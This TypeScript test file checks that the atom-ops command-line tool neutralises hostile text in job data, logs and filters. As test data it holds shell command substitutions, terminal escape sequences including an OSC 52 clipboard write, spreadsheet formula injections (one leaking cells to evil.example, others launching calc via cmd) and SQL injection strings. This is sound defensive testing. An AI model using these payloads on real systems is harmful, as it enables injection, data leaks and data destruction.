import assert from 'node:assert/strict'
import {spawn} from 'node:child_process'
import {existsSync} from 'node:fs'
import {cp, readFile, rm, writeFile} from 'node:fs/promises'
import {join} from 'node:path'
import {after, before, describe, test} from 'node:test'
import {fileURLToPath} from 'node:url'
// @ts-expect-error: the parser ships no types
import parsePrometheusTextFormat from 'parse-prometheus-text-format'

import {type CliResult, runCli} from '../helpers/cli.js'
import {freePort, waitFor} from '../support/testbed/processes.js'
import {insertJob, insertUser} from '../support/testbed/seed.js'
import {type RunningSupervisord, startSupervisord} from '../support/testbed/supervisord.js'
import {TestBed} from '../support/testbed/testbed.js'

/**
 * Hostile text in every place atom-ops shows data from (job names, notes, usernames, properties,
 * Gearman function names, workers_key, host names, a worker's log): quotes, `;`, backticks, `$()`,
 * newlines, CR and terminal escape sequences. Human output shows it inert (escaped, no raw ESC, CR, BEL
 * or C1 bytes), --json carries it exactly, nothing of it runs, and SQL in a filter is data.
 */
const CANARY = '/tmp/atom-ops-injection-canary'
const SHELL = `$(touch ${CANARY}) \`touch ${CANARY}\``
const TERMINAL = '\u001B[2J\u001B]0;title\u0007\u009B31m'
const PAYLOAD = `inj' "x"; ${SHELL} a\nb\rc ${TERMINAL} end`
/** Function names travel in gearmand's line protocols: no whitespace there. */
const FN_PAYLOAD = `Inj';$(id>${CANARY})\`id>${CANARY}\`\u001B[2J\u001B]0;t\u0007\u009B`
const RAW_CONTROL = /[\u001B\r\u0007\u009B]/
const ESCAPED = String.raw`\u001b[2J`
/** OSC 52 (write the clipboard), a screen and scrollback clear, a window title, BEL. */
const OSC52 = '\u001B]52;c;ZWNobyBwd25lZA==\u0007'
const CLEAR = '\u001B[2J\u001B[3J\u001B[H'
/**
 * Spreadsheet formulas at the start of a job's name, note and user (OWASP's =, +, -, @, tab, CR), with
 * escape sequences (OSC 52, a screen clear, a title, BEL) and a bidi override after them.
 */
const FORMULA_JOBS = [
  {
    name: `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")${OSC52}`,
    note: `+SUM(1,2)\u0007${CLEAR}`,
    user: `@SUM(1+1)*cmd|' /C calc'!A0\u001B]0;pwned\u0007`,
  },
  {name: `-2+3+cmd|' /C calc'!A0${CLEAR}`, note: '\t=1+1', user: `+user${OSC52}`},
  {name: '@evil\u202Eexe.txt', note: '\r=2+2\nsecond line', user: '-dash\tuser'},
]
/** What the CSV may hold: no control byte at all but newline, CR and tab, and those only inside quoted cells. */

const CSV_FORBIDDEN = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/
/** The cell a spreadsheet gets by default, written out independently of src/: controls as \uXXXX text, a formula behind a quote. */
function neutralCell(stored: string): string {
  const text = stored.replaceAll(
    /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/g,
    (c) => String.raw`\u` + c.charCodeAt(0).toString(16).padStart(4, '0'),
  )
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text
}

/** supervisord's XML-RPC cannot carry C0 controls (atom-ops says so, exit 6): the log holds the rest, and a C1 CSI. */
const LOG_PAYLOAD = `log' "x"; ${SHELL} \u009B31m end`

let bed: TestBed
let sup: RunningSupervisord
let runningId: number
let doneId: number
let userId: number
const formulaIds: number[] = []
const LOG_PROGRAM = 'inj-logger'
const ESC_LOG_PROGRAM = 'inj-esc-logger'
const logger = (name: string, text: string) => ({
  name,
  command: [
    process.execPath,
    '-e',
    `process.stdout.write(Buffer.from('${Buffer.from(text + '\n', 'utf8').toString('hex')}','hex'));setTimeout(()=>{},60000)`,
  ],
  startsecs: 0,
})

before(async () => {
  await rm(CANARY, {force: true})
  bed = await TestBed.start()
  userId = await insertUser(bed.database, `u${PAYLOAD}`)
  runningId = await insertJob(bed.database, {
    name: `arObjectMoveJob${PAYLOAD}`,
    status: 'running',
    userId,
    createdAt: new Date(Date.now() - 3 * 3_600_000),
    notes: [`note ${PAYLOAD}`],
    properties: {[`prop${PAYLOAD}`]: `value ${PAYLOAD}`},
  })
  doneId = await insertJob(bed.database, {
    name: `arFindingAidJob${PAYLOAD}`,
    status: 'error',
    userId,
    errorNote: `error ${PAYLOAD}`,
    output: `output ${PAYLOAD}`,
  })
  for (const f of FORMULA_JOBS) {
    const user = await insertUser(bed.database, f.user)
    formulaIds.push(
      await insertJob(bed.database, {
        name: f.name,
        status: 'completed',
        userId: user,
        notes: [f.note],
        createdAt: new Date(Date.now() - 5 * 86_400_000),
      }),
    )
  }

  await bed.startWorker([FN_PAYLOAD, 'arFindingAidJob'])
  // Workers whose logs hold the payloads (bytes as given), written by programs run from argument arrays.
  sup = await startSupervisord(join(bed.dir, 'supervisor'), {
    programs: [logger(LOG_PROGRAM, LOG_PAYLOAD), logger(ESC_LOG_PROGRAM, `log ${PAYLOAD}`)],
  })
})
after(async () => {
  await sup?.stop()
  await bed?.stop()
})

const cli = (args: string[], env: NodeJS.ProcessEnv = {}) =>
  runCli([...args, '--timeout', '3'], {env: bed.env(env), timeoutMs: 60_000})

/** Human output: no raw control byte of the payload, its escaped form visible. */
function assertInert(r: CliResult, what: string, visible: string | null = ESCAPED): void {
  assert.doesNotMatch(
    r.stdout,
    RAW_CONTROL,
    `${what}: raw control bytes on stdout:\n${JSON.stringify(r.stdout.slice(0, 3000))}`,
  )
  assert.doesNotMatch(r.stderr, RAW_CONTROL, `${what}: raw control bytes on stderr: ${JSON.stringify(r.stderr)}`)
  if (visible) assert.ok(r.stdout.includes(visible), `${what}: the escaped form is shown:\n${r.stdout.slice(0, 3000)}`)
  assert.doesNotMatch(r.stderr, /\bat .+:\d+:\d+\)?$/m, `${what}: no stack trace`)
}

/**
 * RFC 4180 as PHP's fputcsv writes it (fields quoted with ", quotes doubled, newlines inside quotes).
 * `unquoted` collects what stood outside quotes, where no newline, CR or tab may be.
 */
function parseCsv(text: string, unquoted: string[] = []): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (c === '"') quoted = false
      else cell += c
    } else
      switch (c) {
        case '"': {
          quoted = true
          break
        }

        case ',': {
          row.push(cell)
          cell = ''

          break
        }

        case '\n': {
          row.push(cell)
          rows.push(row)
          row = []
          cell = ''

          break
        }

        default: {
          cell += c
          unquoted.push(c)
        }
      }
  }

  if (cell !== '' || row.length > 0) {
    row.push(cell)
    rows.push(row)
  }

  return rows
}

/** A CSV safe for a spreadsheet and a terminal: no control byte but newline/CR/tab inside quotes, no cell a spreadsheet would run. */
function assertSpreadsheetSafe(text: string, what: string): string[][] {
  assert.doesNotMatch(
    text,
    CSV_FORBIDDEN,
    `${what}: a raw control byte: ${JSON.stringify(text.match(CSV_FORBIDDEN)?.[0])}`,
  )
  const outside: string[] = []
  const rows = parseCsv(text, outside)
  assert.deepEqual(
    outside.filter((c) => /[\r\t]/.test(c)),
    [],
    `${what}: CR or tab outside a quoted cell`,
  )
  for (const row of rows)
    for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${what}: a formula cell ${JSON.stringify(cell)}`)
  return rows
}

/** --json: somewhere a string holds the payload exactly. */
function strings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') out.push(value)
  else if (Array.isArray(value)) for (const v of value) strings(v, out)
  else if (value && typeof value === 'object') for (const v of Object.values(value)) strings(v, out)
  return out
}

function assertExact(r: CliResult, what: string, needle = PAYLOAD): void {
  assert.ok(r.json !== undefined, `${what}: JSON on stdout: ${r.stdout.slice(0, 500)} ${r.stderr}`)
  assert.ok(
    strings(r.json).some((s) => s.includes(needle)),
    `${what}: the payload round-trips exactly: ${JSON.stringify(r.json).slice(0, 2000)}`,
  )
}

describe('hostile text is shown inert, carried exactly and never run', {concurrency: 3}, () => {
  /** visible: the escaped form is in the table (not where a column is abbreviated); needle: what --json carries exactly (null: not checked). */
  const VIEWS: Array<{name: string; args: () => string[]; needle?: string | null; visible?: string | null}> = [
    {name: 'jobs list', args: () => ['jobs', 'list']},
    {name: 'jobs show (running)', args: () => ['jobs', 'show', String(runningId)]},
    {name: 'jobs show (error)', args: () => ['jobs', 'show', String(doneId)]},
    {name: 'jobs stalled', args: () => ['jobs', 'stalled', '--older-than', '1h']},
    {name: 'queue status --all', args: () => ['queue', 'status', '--all'], needle: FN_PAYLOAD},
    {name: 'queue workers --all', args: () => ['queue', 'workers', '--all'], needle: FN_PAYLOAD, visible: null},
    {name: 'doctor', args: () => ['doctor'], needle: null},
    {
      name: 'worker logs (supervisord)',
      args: () => [
        'worker',
        'logs',
        '--manager',
        'supervisor',
        '--supervisor-config',
        sup.configFile,
        '--unit',
        LOG_PROGRAM,
        '-n',
        '20',
      ],
      needle: LOG_PAYLOAD,
      visible: String.raw`\u009b31m`,
    },
    {name: 'config show --workers-key', args: () => ['config', 'show', '--workers-key', PAYLOAD]},
    {name: 'jobs kill --dry-run', args: () => ['jobs', 'kill', String(runningId), '--dry-run']},
    {
      name: 'queue watch --count 1 --all',
      args: () => ['queue', 'watch', '--count', '1', '--all'],
      needle: FN_PAYLOAD,
      visible: null,
    },
    // A Gearman function name of this install with escapes in it, as a Prometheus label value: `\` escaped by the format.
    {name: 'metrics', args: () => ['metrics'], needle: FN_PAYLOAD, visible: String.raw`\\u001b[2J`},
  ]
  for (const v of VIEWS) {
    test(`${v.name}: inert in the table`, async () => {
      const r = await cli(v.args())
      assert.ok(r.code !== null && r.code <= 4, `exit ${r.code}: ${r.stderr}`)
      assertInert(r, v.name, v.visible)
    })
    test(`${v.name}: exact in --json`, async () => {
      const r = await cli([...v.args(), '--json'])
      assert.ok(r.code !== null && r.code <= 4, `exit ${r.code}: ${r.stderr}`)
      if (v.needle === null) assert.ok(r.json !== undefined, r.stdout)
      else assertExact(r, v.name, v.needle)
    })
  }

  test('workers_key from app.yml (a YAML escape): inert in config show and queue status, exact in --json', async () => {
    const root = join(bed.dir, 'variant')
    await cp(bed.realRoot, root, {recursive: true})
    await writeFile(
      join(root, 'config', 'app.yml'),
      `all:\n  workers_key: ${JSON.stringify(PAYLOAD).replaceAll(String.raw`\u001b`, String.raw`\e`)}\n`,
    )
    for (const args of [
      ['config', 'show'],
      ['queue', 'status'],
    ]) {
      const human = await cli(args, {ATOM_OPS_ATOM_ROOT: root})
      assert.ok(human.code === 0 || human.code === 4, `${args.join(' ')}: exit ${human.code} ${human.stderr}`)
      assertInert(human, args.join(' '), args[0] === 'config' ? ESCAPED : null)
    }

    const json = await cli(['config', 'show', '--json'], {ATOM_OPS_ATOM_ROOT: root})
    assertExact(json, 'config show --json')
  })

  test('doctor --nagios: one line for the monitoring system, inert', async () => {
    const r = await cli(['doctor', '--nagios'])
    assert.ok(r.code !== null && r.code <= 3, `exit ${r.code}: ${r.stderr}`)
    assertInert(r, 'doctor --nagios', null)
    assert.match(r.stdout, /^ATOM-OPS [A-Z]+ - [^\n]*\n$/)
  })

  test('worker logs of a log with escape sequences: a clear error (exit 6), the message inert', async () => {
    const r = await cli([
      'worker',
      'logs',
      '--manager',
      'supervisor',
      '--supervisor-config',
      sup.configFile,
      '--unit',
      ESC_LOG_PROGRAM,
      '-n',
      '20',
    ])
    assert.equal(r.code, 6, r.stdout + r.stderr)
    assert.match(r.stderr, /^atom-ops: .*\n {2}hint: .*\n$/)
    assertInert(r, 'worker logs (escapes)', null)
  })

  test('jobs export: the CSV is safe for a spreadsheet and a terminal; --raw and NDJSON carry the payload exactly', async () => {
    const csvFile = join(bed.dir, 'export.csv')
    const csv = await cli(['jobs', 'export', '--output', csvFile])
    assert.equal(csv.code, 0, csv.stderr)
    assertInert(csv, 'jobs export --output', null)
    const text = await readFile(csvFile, 'utf8')
    const rows = assertSpreadsheetSafe(text, 'jobs export')
    for (const f of FORMULA_JOBS) {
      const want = [neutralCell(f.name), 'Completed', neutralCell(f.note), neutralCell(f.user)]
      assert.ok(
        rows.some((r) => r[2] === want[0] && r[3] === want[1] && r[4] === want[2] && r[5] === want[3]),
        `a row ${JSON.stringify(want)} in ${JSON.stringify(rows).slice(0, 3000)}`,
      )
    }

    assert.ok(
      rows.flat().some((cell) => cell.includes(String.raw`\u001b]52;c;`)),
      'OSC 52 is shown as text',
    )
    // Newlines and CRs inside a cell are data: the payload's stay as they were, in quoted cells.
    assert.ok(
      rows.flat().some((cell) => cell.includes('a\nb\rc')),
      'a multi-line cell',
    )
    assert.ok(!rows.flat().some((cell) => cell.includes(PAYLOAD)), 'the escape sequences are not in the CSV as stored')

    // --raw: every cell exactly as stored (escape sequences, formulas and all), for programs.
    const rawFile = join(bed.dir, 'export-raw.csv')
    const raw = await cli(['jobs', 'export', '--raw', '--output', rawFile])
    assert.equal(raw.code, 0, raw.stderr)
    const rawRows = parseCsv(await readFile(rawFile, 'utf8'))
    for (const f of FORMULA_JOBS) {
      assert.ok(
        rawRows.some((r) => r[2] === f.name && r[4] === f.note && r[5] === f.user),
        `the raw row of ${JSON.stringify(f.name)}`,
      )
    }

    assert.ok(
      rawRows.some((row) => row.some((cell) => cell.includes(PAYLOAD))),
      JSON.stringify(rawRows).slice(0, 2000),
    )
    assert.equal(rawRows.length, rows.length)

    const nd = await cli(['jobs', 'export', '--format', 'ndjson'])
    assert.equal(nd.code, 0, nd.stderr)
    const docs = nd.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
    assert.ok(strings(docs).some((s) => s.includes(PAYLOAD)))
  })

  test('jobs list --csv: safe for a spreadsheet and a terminal; with --raw exactly as stored', async () => {
    const r = await cli(['jobs', 'list', '--csv', '--limit', '0'])
    assert.equal(r.code, 0, r.stderr)
    const rows = assertSpreadsheetSafe(r.stdout, 'jobs list --csv')
    const byId = (all: string[][], id: number) => all.find((row) => row[0] === String(id))
    for (const [i, f] of FORMULA_JOBS.entries()) {
      const row = byId(rows, formulaIds[i])
      assert.deepEqual([row?.[1], row?.[3]], [neutralCell(f.name), neutralCell(f.user)], `row of ${formulaIds[i]}`)
    }

    assert.equal(byId(rows, runningId)?.[1], neutralCell(`arObjectMoveJob${PAYLOAD}`))

    const raw = await cli(['jobs', 'list', '--csv', '--raw', '--limit', '0'])
    assert.equal(raw.code, 0, raw.stderr)
    const rawRows = parseCsv(raw.stdout)
    for (const [i, f] of FORMULA_JOBS.entries()) {
      const row = byId(rawRows, formulaIds[i])
      assert.deepEqual([row?.[1], row?.[3]], [f.name, f.user], `raw row of ${formulaIds[i]}`)
    }

    assert.equal(byId(rawRows, runningId)?.[1], `arObjectMoveJob${PAYLOAD}`)
    assert.equal(byId(rawRows, runningId)?.[3], `u${PAYLOAD}`)

    const noCsv = await cli(['jobs', 'list', '--raw'])
    assert.equal(noCsv.code, 2, 'a table is always inert: --raw needs --csv')
  })

  test('metrics: valid Prometheus text, the escapes in a function name shown as text (stdout and --listen)', async () => {
    const label = (text: string) => {
      const families = parsePrometheusTextFormat(text) as Array<{
        name: string
        metrics: Array<{labels?: Record<string, string>}>
      }>
      return families.find((f) => f.name === 'atom_ops_gearman_workers')?.metrics.map((m) => m.labels?.job_class)
    }

    // The label value a scraper reads back: every control character as \uXXXX text.

    const shown = FN_PAYLOAD.replaceAll(
      /[\u0000-\u001F\u007F-\u009F]/g,
      (c) => String.raw`\u` + c.charCodeAt(0).toString(16).padStart(4, '0'),
    )
    const r = await cli(['metrics'])
    assert.equal(r.code, 0, r.stderr)
    assert.doesNotMatch(r.stdout, CSV_FORBIDDEN)
    assert.ok(label(r.stdout)?.includes(shown), `${JSON.stringify(shown)} in ${JSON.stringify(label(r.stdout))}`)

    const port = await freePort()
    const child = spawn(
      process.execPath,
      [
        fileURLToPath(new URL('../../bin/run.js', import.meta.url)),
        'metrics',
        '--listen',
        `127.0.0.1:${port}`,
        '--timeout',
        '3',
      ],
      {
        env: {PATH: process.env.PATH, HOME: process.env.HOME, ...bed.env()},
        stdio: ['ignore', 'ignore', 'pipe'],
      },
    )
    try {
      const body = await waitFor('metrics --listen', async () => {
        const res = await fetch(`http://127.0.0.1:${port}/metrics`, {signal: AbortSignal.timeout(10_000)}).catch(
          () => undefined,
        )
        return res?.ok ? res.text() : undefined
      })
      assert.doesNotMatch(body, CSV_FORBIDDEN)
      assert.ok(label(body)?.includes(shown))
    } finally {
      const closed = new Promise((resolve) => child.on('close', resolve))
      child.kill('SIGTERM')
      await closed
    }
  })

  test('SQL in filters is data: nothing matches, the tables are intact', async () => {
    const before = await bed.database.rows<{n: number}>('SELECT COUNT(*) AS n FROM job')
    for (const args of [
      ['jobs', 'list', '--name', "x';DROP TABLE job;--", '--json'],
      ['jobs', 'list', '--user', "x' OR '1'='1", '--json'],
      ['jobs', 'list', '--name', `*${"'); DELETE FROM object; --"}*`, '--json'],
      ['jobs', 'clear', '--name', "x';DELETE FROM job;--", '--force', '--json'],
    ]) {
      const r = await cli(args)
      assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`)
      const n = r.json.total ?? r.json.plan?.total
      assert.equal(n, 0, `${args.join(' ')} matched nothing: ${r.stdout.slice(0, 500)}`)
    }

    // The payload name itself is found exactly (quotes and all) by --name.
    const exact = await cli(['jobs', 'list', '--name', `arFindingAidJob${PAYLOAD}`, '--json'])
    assert.equal(exact.json.total, 1, exact.stdout)
    const after = await bed.database.rows<{n: number}>('SELECT COUNT(*) AS n FROM job')
    assert.deepEqual(after, before)
  })

  test('a host name with a shell payload is not run (ssh gets an argument array)', async () => {
    const r = await cli(['worker', 'status', '--host', `x${SHELL}`, '--manager', 'systemd'])
    assert.ok(r.code === 2 || r.code === 4, `exit ${r.code}: ${r.stdout} ${r.stderr}`)
    assertInert(r, 'worker status --host', null)
  })
})

test('nothing of the payloads ran', () => {
  assert.ok(!existsSync(CANARY), `${CANARY} was created: a payload was executed`)
})
